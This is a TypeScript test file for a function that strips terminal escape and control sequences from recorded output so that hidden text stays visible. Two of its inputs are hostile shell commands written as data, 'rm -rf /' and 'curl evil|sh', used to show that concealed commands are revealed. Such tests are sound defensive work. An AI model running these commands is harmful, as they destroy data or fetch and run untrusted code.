import fc from "fast-check";
import { describe, expect, test, vi } from "vitest";
import { toPlainText } from "../../src/index.js";
import { input, opened, output, viewOf } from "../events.js";

// Large texts, on a machine that may be busy.
vi.setConfig({ testTimeout: 60_000 });

const plain = (...texts: string[]): string =>
  toPlainText(viewOf([opened(), ...texts.map((text) => output(text))]));

describe("toPlainText", () => {
  test.each([
    ["colours", "\u001b[31mred\u001b[0m \u001b[38;2;1;2;3mrgb\u001b[m", "red rgb"],
    ["cursor moves and modes", "a\u001b[2Jb\u001b[?25lc\u001b[10;20Hd", "abcd"],
    ["C1 sequences", "a\u009b31mb\u009b0mc", "abc"],
    ["a title", "a\u001b]0;title\u0007b\u001b]2;title\u001b\\c\u009d0;title\u009cd", "abcd"],
    [
      "device control and other strings",
      "a\u001bP1$r0m\u001b\\b\u001b_app\u001b\\c\u001b^pm\u001b\\d\u001bXsos\u001b\\e",
      "abcde",
    ],
    ["links, whose text stays", "\u001b]8;;https://example.com\u0007text\u001b]8;;\u0007", "text"],
    ["short escapes", "a\u001b7b\u001b8c\u001b(Bd\u001bce\u001b#8f", "abcdef"],
    ["a string that a cancel ends", "a\u001b]0;title\u0018b\u001b]0;title\u001ac", "abc"],
    ["a string that another sequence ends", "a\u001b]0;title\u001b[31mb", "ab"],
    ["a sequence that a control character breaks off", "a\u001b[31\nb", "a\nb"],
    ["a sequence that the end cuts off", "a\u001b[31", "a"],
    ["a lone escape", "a\u001b", "a"],
  ])("has none of %s", (_, text, expected) => {
    expect(plain(text)).toBe(expected);
  });

  test("a sequence may lie in several chunks", () => {
    expect(plain("a\u001b", "[3", "1mb", "\u001b]0;ti", "tle\u0007c")).toBe("abc");
  });

  test("nobody can hide the rest of a text in a string that nothing ends", () => {
    expect(plain("a\u001b]0;rm -rf /\nb")).toBe("a0;rm -rf /\nb");
    expect(plain("\u001bPhidden\nand more")).toBe("hidden\nand more");
  });

  test("line feeds and tabs stay, line ends become line feeds", () => {
    expect(plain("a\tb\r\nc\r\r\nd\u0085e\nf")).toBe("a\tb\nc\nd\ne\nf");
  });

  test("a carriage return alone begins a line, so nothing that was overwritten is lost", () => {
    expect(plain("curl evil|sh\r\u001b[2Kls -la\n")).toBe("curl evil|sh\nls -la\n");
    expect(plain(" 10%\r 50%\r100%\n")).toBe(" 10%\n 50%\n100%\n");
  });

  test("a backspace erases nothing, but what is struck over itself or underlined is there once", () => {
    expect(plain("rm\b\bls")).toBe("rmls");
    expect(plain("N\bNA\bA\u001b[m _\bx_\by")).toBe("NA xy");
  });

  test("other control characters are gone", () => {
    expect(plain("a\u0000b\u0007c\u007fd\u0084e\u009cf")).toBe("abcdef");
  });

  test("all streams are there in order, but not what a terminal echoes anyway", () => {
    const events = [output("$ "), input("ls\n"), output("a\n", { stream: "stderr" })];
    expect(toPlainText(viewOf([opened(), ...events]))).toBe("$ ls\na\n");
    expect(toPlainText(viewOf([opened({ tty: true }), ...events]))).toBe("$ a\n");
  });

  test("without output it is empty", () => {
    expect(toPlainText(viewOf([]))).toBe("");
  });

  test("never holds a control character, whatever is printed", () => {
    const piece = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.constantFrom(
        "\u001b",
        "\u001b[",
        "\u001b]",
        "\u001b\\",
        "\u009b",
        "\u009d",
        "\u0090",
        "\u009c",
        "\u0007",
        "\r",
        "\b",
        "1;2",
        "m",
      ),
    );
    fc.assert(
      fc.property(fc.array(piece), (pieces) => {
        expect(plain(...pieces)).not.toMatch(/[^\P{Cc}\t\n]/u);
      }),
    );
  });

  test("takes time in proportion to the text, whatever it holds", () => {
    for (const piece of ["\u009d", "\u001b]", "\u001b[1", "\u0090x", "\r", "a\b", "\u001bP\u009d"])
      expect(plain(piece.repeat(100_000)).length).toBeLessThanOrEqual(200_000);
  });
});
